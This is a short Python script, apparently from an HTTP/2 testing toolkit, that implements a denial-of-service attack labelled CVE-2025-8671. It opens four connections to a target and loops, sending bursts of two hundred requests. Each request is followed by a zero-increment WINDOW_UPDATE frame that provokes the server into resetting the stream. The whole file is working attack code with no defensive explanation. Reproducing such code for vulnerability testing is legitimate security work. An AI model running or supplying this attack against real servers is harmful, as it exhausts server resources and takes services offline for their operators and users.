"""Requests that the server is made to reset: a window's update of nothing after each (CVE-2025-8671)."""

from wire.http2 import WINDOW_UPDATE, ask, frame, http2


async def attack(target):
    async def lane(number):
        async with http2(target, target.source(number)) as it:
            stream = 1
            while it and target.goes_on():
                burst = b""
                for _ in range(200):
                    burst += ask(stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
                    stream += 2
                await it.send(burst)

    await target.lanes(4, lane)
